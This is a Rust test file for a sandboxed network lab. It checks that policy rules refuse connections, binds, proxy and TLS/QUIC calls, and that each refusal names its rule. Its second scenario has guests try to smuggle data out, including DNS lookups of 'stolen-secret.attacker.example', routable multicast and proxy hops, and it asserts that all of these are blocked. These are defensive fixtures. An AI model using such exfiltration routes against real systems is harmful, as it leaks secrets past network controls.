//! Refused calls, as a person meets them: `acces` for the guest, and in the trace the rule that it was.

mod common;

use common::scenario;
use guestnet::lab::{Lab, Report};

/// A client of each protocol object that has something to refuse.
const LAB: &str = r#"
    [ca.test]

    [guest.server]
    module = "target/guests/echo_server.wasm"
    addresses = ["10.0.0.2/24"]
    background = true

    [guest.plain]
    module = "target/guests/echo_client.wasm"
    args = ["10.0.0.2:7"]
    protocol.ipv4 = { connect = "*:80" }

    [guest.binds]
    module = "target/guests/echo_server.wasm"
    args = ["0.0.0.0:7", "stream", "1"]
    protocol.ipv4 = { bind = "*:80" }

    [guest.group]
    module = "target/guests/group.wasm"
    args = ["listen", "0.0.0.0:5000", "224.0.0.251", "1"]
    protocol.ipv4 = { bind = "0.0.0.0:5000" }

    [guest.socks]
    module = "target/guests/echo_client.wasm"
    args = ["socks", "www.example.org:7"]
    protocol.ipv4 = { private = true }
    protocol.socks = { kind = "socks5", over = "ipv4", server = "10.0.0.2:7", deny.connect = "*.example.org:*" }

    [guest.associate]
    module = "target/guests/echo_client.wasm"
    args = ["socks", "10.0.0.3:7", "dgram"]
    protocol.ipv4 = { private = true }
    protocol.socks = { kind = "socks5", over = "ipv4", server = "10.0.0.2:7", connect = "10.0.0.2:*" }

    [guest.http]
    module = "target/guests/echo_client.wasm"
    args = ["http", "www.example.org:7"]
    protocol.ipv4 = { private = true }
    protocol.http = { kind = "http-connect", over = "ipv4", server = "10.0.0.2:7", connect = "*:443" }

    # The same address in IPv6's form.
    [guest.mapped]
    module = "target/guests/echo_client.wasm"
    args = ["socks", "[::ffff:10.0.0.3]:7"]
    protocol.ipv4 = { private = true }
    protocol.socks = { kind = "socks5", over = "ipv4", server = "10.0.0.2:7", deny.connect = "10.0.0.3:*" }

    [guest.tls]
    module = "target/guests/echo_client.wasm"
    args = ["tls", "server:7"]
    protocol.ipv4 = { private = true, connect = "server:7" }
    protocol.tls = { over = "ipv4", server_name = "bad.example.org" }

    [guest.quic]
    module = "target/guests/stream_client.wasm"
    args = ["quic", "10.0.0.2:7", "both", "1", "1"]
    protocol.ipv4 = { private = true, deny.connect = "bad.example.org:*" }
    protocol.quic = { over = "ipv4", server_name = "bad.example.org" }

    # What the stack may reach is the proxy; the name is the proxy's matter.
    [guest.tunnel]
    module = "target/guests/echo_client.wasm"
    args = ["tls", "bad.example.org:443"]
    protocol.ipv4 = { private = true, connect = "10.0.0.2:7" }
    protocol.http = { kind = "http-connect", private = true, over = "ipv4", server = "10.0.0.2:7", deny.connect = "bad.example.org:*" }
    protocol.tls = { over = "http" }

    [guest.local]
    module = "target/guests/echo_client.wasm"
    args = ["unix", "/run/echo.sock"]
    protocol.unix = { connect = "/srv/*" }

    [guest.denied]
    module = "target/guests/echo_client.wasm"
    args = ["unix", "/run/echo.sock"]
    protocol.unix = { connect = "/run/**", deny.connect = ["/srv/**", "/run/echo.*"] }

    [guest.elsewhere]
    module = "target/guests/echo_server.wasm"
    args = ["unix", "/run/private/a.sock"]
    protocol.unix = { deny = { bind = "/run/private/**" } }
"#;

fn run(text: &str) -> Report {
    let lab = Lab::from_toml(text, "policy.toml").unwrap_or_else(|error| panic!("{}", error.plain()));
    lab.with_cache(scenario::cache()).with_trace().run(1)
}

/// What protocol objects had to say in the trace.
fn remarks(report: &Report) -> String {
    let remarks = report.calls.iter().filter_map(|call| {
        let (_, remark) = call.line.split_once(" -- ")?;
        Some(format!("{}: {remark}", report.guests[call.guest].name))
    });
    remarks.collect::<Vec<_>>().join("\n")
}

/// Ports that a seed has chosen are left out.
fn without_ports(text: &str) -> String {
    let is_port = |rest: &str| rest.len() >= 5 && rest.bytes().take(5).all(|byte| byte.is_ascii_digit());
    let parts = text
        .split(':')
        .map(|part| if is_port(part) { format!("PORT{}", &part[5..]) } else { part.to_owned() });
    parts.collect::<Vec<_>>().join(":")
}

#[test]
fn who_may_not_come_in_and_what_may_not_be_asked_for_is_told_too() {
    let report = scenario::lab("policy_names").with_trace().run(1);
    let refused: Vec<String> =
        remarks(&report).lines().filter(|line| line.contains("refused: ")).map(without_ports).collect();
    insta::assert_snapshot!(refused.join("\n"), @r#"
    greedy: bind 0.0.0.0:7: refused: no rule of `bind` allows it
    server: accept 10.0.0.8:PORT: refused: the rule enemy:* of `deny.accept` refuses it
    server: accept 10.0.0.9:PORT: refused: no rule of `accept` allows it
    swift: quic: accept 10.0.0.16:PORT, who asks for other.example.org: refused: no rule of `bind` allows it
    web: tls: accept 10.0.0.13:PORT, who asks for other.example.org: refused: no rule of `bind` allows it
    "#);
}

#[test]
fn a_refused_call_says_which_rule_it_was() {
    let report = run(LAB);
    for guest in report.guests.iter().filter(|guest| guest.name != "server") {
        let refused =
            guest.stderr().contains("Permission denied") || guest.stdout().contains("Permission denied");
        assert!(refused, "{}: {:?} {:?}", guest.name, guest.stdout(), guest.stderr());
    }
    insta::assert_snapshot!(remarks(&report), @r#"
    plain: connect 10.0.0.2:7: refused: no rule of `connect` allows it
    binds: bind 0.0.0.0:7: refused: no rule of `bind` allows it
    group: group_join 224.0.0.251:5000: refused: no rule of `bind` allows it
    socks: socks5: connect www.example.org:7: refused: the rule *.example.org:* of `deny.connect` refuses it
    associate: socks5: connect 10.0.0.3:7: refused: no rule of `connect` allows it
    http: http-connect: connect www.example.org:7: refused: no rule of `connect` allows it
    mapped: socks5: connect 10.0.0.3:7: refused: the rule 10.0.0.3/32:* of `deny.connect` refuses it
    tls: tls: connect server:7 as bad.example.org: refused: no rule of `connect` allows it
    quic: quic: connect 10.0.0.2:7 as bad.example.org: refused: the rule bad.example.org:* of `deny.connect` refuses it
    tunnel: tls: connect bad.example.org:443 as bad.example.org: refused: the rule bad.example.org:* of `deny.connect` refuses it
    local: connect /run/echo.sock: refused: no rule of `connect` allows it
    denied: connect /run/echo.sock: refused: the rule /run/echo.* of `deny.connect` refuses it
    elsewhere: bind /run/private/a.sock: refused: the rule /run/private/** of `deny.bind` refuses it
    "#);
}

/// Guests of a lab with a TAP, which try to get something out of it: `OUT` by default policies, `in` and `let` where they may.
const PLUGGED_IN: &str = r#"
    duration = "20s"

    [switch.lan]
    subnets = ["10.0.0.0/24"]
    [tap.host]
    network = "lan"

    [dns.ns]
    addresses = ["10.0.0.53/24"]
    [dns.ns.zone."example.test"]
    www = { a = "10.0.0.2" }

    [guest.server]
    module = "target/guests/echo_server.wasm"
    addresses = ["10.0.0.2/24"]
    background = true

    # Where outside servers of names would be.
    [guest.spy]
    module = "target/guests/idle.wasm"
    addresses = ["10.0.0.66/24"]
    background = true
    [guest.other]
    module = "target/guests/idle.wasm"
    addresses = ["10.0.0.67/24"]
    background = true

    # A name may carry anything to whoever is asked for it.
    [guest.out-name]
    module = "target/guests/echo_client.wasm"
    args = ["stolen-secret.attacker.example:7"]
    resolver = { servers = ["10.0.0.66"] }
    [guest.out-name-dgram]
    module = "target/guests/echo_client.wasm"
    args = ["stolen-secret.attacker.example:7", "dgram"]
    resolver = { servers = ["10.0.0.66"] }
    [guest.out-name-ping]
    module = "target/guests/ping.wasm"
    args = ["stolen-secret.attacker.example", "1"]
    resolver = { servers = ["10.0.0.66"] }
    protocol.icmp = {}
    # Its rule lets it reach nothing outside.
    [guest.out-name-prefix]
    module = "target/guests/echo_client.wasm"
    args = ["stolen-secret.attacker.example:7"]
    resolver = { servers = ["10.0.0.66"] }
    protocol.ipv4 = { connect = "10.0.0.0/25:*" }
    [guest.out-name-port]
    module = "target/guests/echo_client.wasm"
    args = ["stolen-secret.attacker.example:7"]
    resolver = { servers = ["10.0.0.66"] }
    protocol.ipv4 = { connect = ["10.0.0.0/24:*", "*:80"] }

    # Routers may forward these groups.
    [guest.out-group]
    module = "target/guests/echo_client.wasm"
    args = ["239.1.2.3:9999", "dgram"]
    protocol.ipv4 = {}
    [guest.out-group6]
    module = "target/guests/echo_client.wasm"
    args = ["[ff0e::1]:9999", "dgram"]
    addresses = ["10.0.0.9/24", "fd00::9/64"]
    protocol.ipv6 = {}

    [guest.out-socks]
    module = "target/guests/echo_client.wasm"
    args = ["socks", "198.51.100.7:7"]
    protocol.ipv4 = { private = true }
    protocol.socks = { kind = "socks5", over = "ipv4", server = "10.0.0.2:1081" }
    [guest.out-socks-name]
    module = "target/guests/echo_client.wasm"
    args = ["socks", "stolen-secret.attacker.example:7"]
    protocol.ipv4 = { private = true }
    protocol.socks = { kind = "socks5", over = "ipv4", server = "10.0.0.2:1081" }
    # The proxy's own machine.
    [guest.out-http-localhost]
    module = "target/guests/echo_client.wasm"
    args = ["http", "localhost:7"]
    protocol.ipv4 = { private = true }
    protocol.http = { kind = "http-connect", over = "ipv4", server = "10.0.0.2:1081" }

    [guest.in-name]
    module = "target/guests/echo_client.wasm"
    args = ["www.example.test:7"]
    resolver = { servers = ["10.0.0.66", "10.0.0.53"] }
    [guest.in-socks]
    module = "target/guests/echo_client.wasm"
    args = ["socks", "server:7"]
    protocol.ipv4 = { private = true }
    protocol.socks = { kind = "socks5", over = "ipv4", server = "10.0.0.2:1081" }
    [guest.in-group]
    module = "target/guests/echo_client.wasm"
    args = ["224.0.0.251:9999", "dgram"]

    [guest.let-name]
    module = "target/guests/echo_client.wasm"
    args = ["allowed.example.org:7"]
    resolver = { servers = ["10.0.0.67"], timeout = "1s" }
    protocol.ipv4 = { connect = "*.example.org:7" }
    [guest.let-private]
    module = "target/guests/echo_client.wasm"
    args = ["allowed.internal.test:7"]
    resolver = { servers = ["10.0.0.67"], timeout = "1s", private = ["internal.test"] }
    [guest.let-group]
    module = "target/guests/echo_client.wasm"
    args = ["239.1.2.4:9999", "dgram"]
    protocol.ipv4 = { connect = "239.1.2.4:*" }
"#;

#[test]
fn by_default_nothing_leads_out_of_a_lab() {
    let report = run(PLUGGED_IN);
    let said = |name: &str| {
        let guest = report.guest(name);
        format!("{}{}", guest.stdout(), guest.stderr())
    };
    for guest in &report.guests {
        let refused = said(&guest.name).contains("Permission denied");
        assert_eq!(refused, guest.name.starts_with("out-"), "{}: {}", guest.name, said(&guest.name));
    }
    assert!(said("in-name").contains("echoed 5 bytes"));
    assert!(said("in-socks").contains("Connection refused"), "the proxy was to be asked");
    let count = |filter: &str| report.packets(filter).unwrap().len();
    assert_eq!(count("ip.dst == 10.0.0.66"), 0);
    assert_eq!(count("ip.dst == 239.1.2.3 || ipv6.dst == ff0e::1"), 0);
    assert!(count("ip.dst == 10.0.0.67 && udp.dstport == 53") > 0);
    assert!(count("ip.dst == 239.1.2.4") > 0 && count("ip.dst == 224.0.0.251") > 0);
    insta::assert_snapshot!(remarks(&report).lines().filter(|line| line.contains("refused")).collect::<Vec<_>>().join("\n"), @r#"
    out-name-dgram: connect stolen-secret.attacker.example: refused: its resolver has no server of the lab, and to ask another one leads out of it, which no rule of `connect` allows
    out-name-ping: connect stolen-secret.attacker.example: refused: its resolver has no server of the lab, and to ask another one leads out of it, which no rule of `connect` allows
    out-group: connect 239.1.2.3:9999: refused: it leads out of the lab, and no rule of `connect` allows it
    out-group6: connect [ff0e::1]:9999: refused: it leads out of the lab, and no rule of `connect` allows it
    out-socks: socks5: connect 198.51.100.7:7: refused: it leads out of the lab, and no rule of `connect` allows it
    out-socks-name: socks5: connect stolen-secret.attacker.example:7: refused: it leads out of the lab, and no rule of `connect` allows it
    out-http-localhost: http-connect: connect localhost:7: refused: it leads out of the lab, and no rule of `connect` allows it
    out-name: connect stolen-secret.attacker.example: refused: its resolver has no server of the lab, and to ask another one leads out of it, which no rule of `connect` allows
    out-name-prefix: connect stolen-secret.attacker.example: refused: its resolver has no server of the lab, and to ask another one leads out of it, which no rule of `connect` allows
    out-name-port: connect stolen-secret.attacker.example: refused: its resolver has no server of the lab, and to ask another one leads out of it, which no rule of `connect` allows
    let-name: allowed.example.org: no name server answers; the last one: 10.0.0.67:53: connection refused
    let-private: allowed.internal.test: no name server answers; the last one: 10.0.0.67:53: connection refused
    "#);
}
